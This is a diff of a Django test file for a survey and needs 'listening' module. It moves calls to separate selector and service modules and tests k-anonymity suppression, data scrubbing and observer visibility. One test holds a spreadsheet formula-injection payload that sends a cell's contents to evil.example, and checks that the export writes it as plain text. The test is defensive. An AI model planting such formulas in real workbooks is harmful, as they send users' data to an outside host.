@@ -15,8 +15,14 @@ from openpyxl import load_workbook
 
 from grappe.core import aggregates
 from grappe.core.models import Notification
-from grappe.listening import briefs, charts, dashboards, theming
+from grappe.listening import charts, documents
 from grappe.listening.models import Brief, Need, SurveyStatus, Theme, ThemeAssignment
+from grappe.listening.selectors import briefs as brief_selectors
+from grappe.listening.selectors import dashboards
+from grappe.listening.selectors import themes as theme_selectors
+from grappe.listening.services import briefs as brief_services
+from grappe.listening.services import needs as need_services
+from grappe.listening.services import themes as theme_services
 from grappe.members.models import Segment
 
 from .insights_data import answered_survey, crowd
@@ -33,7 +39,7 @@ def lexical_themes(settings):
 def made(staff, django_capture_on_commit_callbacks):
     organisations = crowd(staff)
     with django_capture_on_commit_callbacks(execute=True):
-        theming.start_run(actor=staff)
+        theme_services.start_run(actor=staff)
     return organisations
 
 
@@ -97,13 +103,11 @@ def test_observers_never_count_staff_only_needs(made, staff):
 
 
 def test_the_cache_is_renewed_by_a_new_need(made, staff, django_capture_on_commit_callbacks):
-    from grappe.listening import services
-
     before = dashboards.overview(dashboards.STAFF)["categories"]["total"].items
     org, user = made[0]
     with django_capture_on_commit_callbacks(execute=True):
-        services.submit_need(actor=user, organisation=org, category="export", text="Encore les tarifs",
-                             language="fr", urgency="low", visibility="anonymous")
+        need_services.submit_need(actor=user, organisation=org, category="export", text="Encore les tarifs",
+                                  language="fr", urgency="low", visibility="anonymous")
     assert dashboards.overview(dashboards.STAFF)["categories"]["total"].items == before + 1
 
 
@@ -158,7 +162,7 @@ def test_charts_draw_suppressed_cells_hatched_with_less_than_k():
 # Briefs -------------------------------------------------------------------------------------------------------
 
 def test_scrubbing_removes_names_emails_phones_and_addresses(made):
-    scrubber = briefs.Scrubber()
+    scrubber = brief_selectors.Scrubber()
     org, _user = made[3]
     text = ("Chez Usinage Delta 03, Gaston03 Lapointe (gaston@delta.test, 514 555-0103, www.delta.test) dit que "
             "Gaston03 manque 2 000 000 $ pour 40 semaines.")
@@ -201,7 +205,7 @@ def test_one_click_makes_the_brief_with_figures_quotes_and_files(made, staff, cl
     pdf = client.get(reverse("listening:brief-pdf", args=[brief.pk]))
     assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
     assert page_count(pdf.content) >= 1
-    html = briefs.brief_html(Brief.objects.get(pk=brief.pk))
+    html = documents.brief_html(Brief.objects.get(pk=brief.pk))
     assert "Pulse" in html and "Fund training." in html and "Réponse confidentielle" not in html
 
 
@@ -222,9 +226,9 @@ def page_count(pdf: bytes) -> int:
 def test_a_brief_suppresses_what_fewer_than_k_organisations_said(made, staff):
     answered_survey(staff, made, answering=3)
     start, end = period()
-    brief = briefs.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
+    brief = brief_services.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
     assert brief.figures["surveys"][0]["submitted"] == {"suppressed": True}
-    book = load_workbook(io.BytesIO(briefs.brief_xlsx(brief)))
+    book = load_workbook(io.BytesIO(documents.render_brief_xlsx(brief)))
     rates = book.worksheets[1]
     assert list(rates.values)[1][2] == "< 5" and list(rates.values)[1][3] == "< 5"
 
@@ -232,11 +236,11 @@ def test_a_brief_suppresses_what_fewer_than_k_organisations_said(made, staff):
 def test_a_brief_workbook_writes_text_typed_as_a_formula_as_text(made, staff):
     leak = '=HYPERLINK("https://evil.example/?leak="&B3,"Click me")'
     start, end = period()
-    brief = briefs.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
+    brief = brief_services.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
     brief.recommendations = f"{leak}\n+Former la relève"
     brief.save()
 
-    sheet = load_workbook(io.BytesIO(briefs.brief_xlsx(brief)))["Recommandations"]
+    sheet = load_workbook(io.BytesIO(documents.render_brief_xlsx(brief)))["Recommandations"]
 
     cells = [row[0] for row in sheet.iter_rows(min_row=2)]
     assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [(leak, "s", True),
@@ -251,26 +255,26 @@ def test_quotes_need_k_organisations_in_the_theme(made, staff):
                                    visibility="named", created_at=now)
         ThemeAssignment.objects.create(theme=theme, need=need, manual=True)
     start, end = period()
-    assert briefs.theme_quotes([theme.pk], start, end).get(theme.pk, []) == []
+    assert brief_selectors.theme_quotes([theme.pk], start, end).get(theme.pk, []) == []
 
 
 def test_a_published_brief_never_changes(made, staff, observer, client, django_capture_on_commit_callbacks):
     start, end = period()
-    brief = briefs.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
+    brief = brief_services.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
     client.force_login(observer)
     assert client.get(reverse("listening:brief-detail", args=[brief.pk])).status_code == 404
     assert client.get(reverse("listening:brief-pdf", args=[brief.pk])).status_code == 404
     with django_capture_on_commit_callbacks(execute=True):
-        briefs.publish_brief(actor=staff, brief=brief)
+        brief_services.publish_brief(actor=staff, brief=brief)
     brief.refresh_from_db()
     frozen_figures, frozen_pdf, frozen_xlsx = brief.figures, bytes(brief.pdf), bytes(brief.xlsx)
     org, user = made[0]
     Need.objects.create(organisation=org, submitted_by=user, category="export", text="Nouveau", visibility="named")
     with pytest.raises(ValidationError) as refused:
-        briefs.refresh_figures(actor=staff, brief=brief)
+        brief_services.refresh_figures(actor=staff, brief=brief)
     assert refused.value.code == "published"
     with pytest.raises(ValidationError) as refused:
-        briefs.update_recommendations(actor=staff, brief=brief, recommendations="Autre chose")
+        brief_services.update_recommendations(actor=staff, brief=brief, recommendations="Autre chose")
     assert refused.value.code == "published"
     brief.refresh_from_db()
     assert brief.figures == frozen_figures
@@ -287,8 +291,8 @@ def test_an_observer_never_sees_a_staff_only_need_or_one_organisations_answer(ma
     secret.text = "SECRET-STAFF-ONLY texte du besoin"
     secret.save()
     start, end = period()
-    brief = briefs.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
-    briefs.publish_brief(actor=staff, brief=brief)
+    brief = brief_services.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
+    brief_services.publish_brief(actor=staff, brief=brief)
     client.force_login(observer)
     pages = [reverse("listening:dashboard"), reverse("listening:dashboard-survey", args=[survey.pk]),
              reverse("listening:brief-list"), reverse("listening:brief-detail", args=[brief.pk]),
@@ -319,13 +323,13 @@ def _secret_theme(made, staff, django_capture_on_commit_callbacks) -> Theme:
         Need.objects.create(organisation=org, submitted_by=user, category="innovation", visibility="staff",
                             text="Zirconoxyde : frittage de la céramique zirconoxyde, prototype zirconoxyde.")
     with django_capture_on_commit_callbacks(execute=True):
-        theming.start_run(actor=staff)
+        theme_services.start_run(actor=staff)
     theme = ThemeAssignment.objects.filter(need__text__startswith="Zirconoxyde").first().theme
     assert "frittage" in theme.name_fr  # the staff's automatic name: the leak this guards against
     # In a finished month: the months observers see.
     visible = Need.objects.filter(visibility="anonymous",
                                   created_at__date__lte=dashboards.shown_until(dashboards.OBSERVER)).first()
-    theming.reassign(actor=staff, need=visible, theme=theme)
+    theme_services.reassign(actor=staff, need=visible, theme=theme)
     return theme
 
 
@@ -333,12 +337,12 @@ def test_observers_never_see_a_word_only_staff_only_needs_hold(made, staff, obse
                                                                 django_capture_on_commit_callbacks):
     theme = _secret_theme(made, staff, django_capture_on_commit_callbacks)
     start, end = period()
-    brief = briefs.publish_brief(actor=staff, brief=briefs.create_brief(actor=staff, period_start=start,
+    brief = brief_services.publish_brief(actor=staff, brief=brief_services.create_brief(actor=staff, period_start=start,
                                                                           period_end=end, language="fr"))
     assert not SECRET_WORDS & set(re.findall(r"\w+", json.dumps(brief.figures, ensure_ascii=False).lower()))
     # The brief shows its top five themes by the same table as the observers' (here the others outnumber it):
     lines = {line["id"]: line["name"] for line in dashboards.theme_trend(
-        briefs.period_months(start, end), include_staff_only=False, top=0, since=start, until=end)["lines"]}
+        brief_selectors.period_months(start, end), include_staff_only=False, top=0, since=start, until=end)["lines"]}
     assert str(theme.pk) in lines[theme.pk]
     client.force_login(observer)
     for url in (reverse("listening:dashboard"), reverse("api:listening-dashboard"),
@@ -349,14 +353,14 @@ def test_observers_never_see_a_word_only_staff_only_needs_hold(made, staff, obse
     api_lines = {line["id"]: line["name"] for line in client.get(reverse("api:listening-dashboard")).json()
                  ["themes"]["lines"]}
     with translation.override(observer.language or "fr"):
-        assert api_lines[theme.pk] == theming.public_name(theme) and str(theme.pk) in api_lines[theme.pk]
+        assert api_lines[theme.pk] == theme_selectors.public_name(theme) and str(theme.pk) in api_lines[theme.pk]
     xlsx = load_workbook(io.BytesIO(client.get(reverse("listening:brief-xlsx", args=[brief.pk])).content))
     cells = " ".join(str(v) for sheet in xlsx.worksheets for row in sheet.values for v in row if v is not None)
     assert not SECRET_WORDS & set(re.findall(r"\w+", cells.lower()))
     client.force_login(staff)  # the staff's own pages keep the words (the texts are theirs) and say what is shown
     assert "frittage" in client.get(reverse("listening:dashboard")).content.decode()
     with translation.override(staff.language or "fr"):
-        shown = theming.public_name(theme)
+        shown = theme_selectors.public_name(theme)
     assert shown in client.get(reverse("listening:staff-theme-detail", args=[theme.pk])).content.decode()
 
 
@@ -365,10 +369,11 @@ def test_outside_the_staff_a_theme_is_called_by_words_k_organisations_wrote_or_t
     k = aggregates.current_k()
     for theme in themes:
         assert theme.public_keywords and all(organisations >= k for _word, organisations in theme.public_keywords)
-        assert theming.public_name(theme) == ", ".join(w for w, _n in theme.public_keywords[:theming.NAME_KEYWORDS])
-    theming.rename_theme(actor=staff, theme=themes[0], name_fr="Tarifs américains", name_en="US tariffs")
+        named = theme.public_keywords[:theme_selectors.NAME_KEYWORDS]
+        assert theme_selectors.public_name(theme) == ", ".join(w for w, _n in named)
+    theme_services.rename_theme(actor=staff, theme=themes[0], name_fr="Tarifs américains", name_en="US tariffs")
     with translation.override("en"):
-        assert theming.public_name(themes[0]) == "US tariffs"
+        assert theme_selectors.public_name(themes[0]) == "US tariffs"
         assert themes[0].pk in {line["id"] for line in dashboards.overview(dashboards.OBSERVER)["themes"]["lines"]
                                 if line["name"] == "US tariffs"}
 
@@ -389,8 +394,8 @@ def test_api_dashboard_numbers_are_suppressed_below_k(made, staff, client):
 
 def test_api_lists_published_briefs_to_observers_and_every_brief_to_staff(made, staff, observer, client):
     start, end = period()
-    draft = briefs.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
-    published = briefs.publish_brief(actor=staff, brief=briefs.create_brief(
+    draft = brief_services.create_brief(actor=staff, period_start=start, period_end=end, language="fr")
+    published = brief_services.publish_brief(actor=staff, brief=brief_services.create_brief(
         actor=staff, period_start=start, period_end=end, language="en"))
     client.force_login(observer)
     assert [b["id"] for b in client.get(reverse("api:listening-brief-list")).json()] == [published.pk]
